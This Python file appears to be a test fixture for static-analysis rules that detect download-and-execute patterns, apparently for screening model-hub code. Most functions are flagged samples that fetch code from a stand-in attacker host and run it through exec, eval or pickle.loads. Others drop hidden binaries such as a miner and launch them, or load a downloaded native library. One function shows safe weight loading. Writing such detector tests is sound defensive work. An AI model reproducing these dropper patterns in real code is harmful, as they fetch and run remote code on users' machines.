import ctypes
import os
import pickle
import subprocess
import urllib.request

import requests
import torch


def stage_two():
    response = requests.get("https://attacker.invalid/stage2.py", timeout=5)
    # ruleid: hubguard.download-execute
    exec(response.text)


def stage_two_urllib():
    # ruleid: hubguard.download-execute
    eval(urllib.request.urlopen("https://attacker.invalid/x").read())


def fetch_binary():
    path, _ = urllib.request.urlretrieve("https://attacker.invalid/miner", "/tmp/m")
    os.chmod(path, 0o755)
    # ruleid: hubguard.download-execute
    subprocess.Popen([path])


def dropper():
    target = os.path.join("/tmp", ".cache-helper")
    urllib.request.urlretrieve("https://attacker.invalid/helper", target)
    # ruleid: hubguard.download-run-file
    os.chmod(target, 0o755)
    # ruleid: hubguard.download-run-file
    subprocess.Popen([target, "--daemon"], stdout=subprocess.DEVNULL)


def dropper_with_requests(url):
    binary = "/tmp/.x"
    response = requests.get(url, timeout=10)
    with open(binary, "wb") as handle:
        handle.write(response.content)
    # ruleid: hubguard.download-run-file
    os.system(binary + " &")


def native_library(url):
    library = "/tmp/libkernel.so"
    open(library, "wb").write(requests.get(url, timeout=10).content)
    # ruleid: hubguard.download-run-file
    return ctypes.CDLL(library)


def remote_pickle():
    blob = requests.get("https://attacker.invalid/obj.pkl", timeout=5).content
    # ruleid: hubguard.download-execute
    return pickle.loads(blob)


def download_weights(url, destination):
    # ok: hubguard.download-execute
    response = requests.get(url, timeout=30)
    with open(destination, "wb") as handle:
        handle.write(response.content)
    return torch.load(destination, map_location="cpu", weights_only=True)
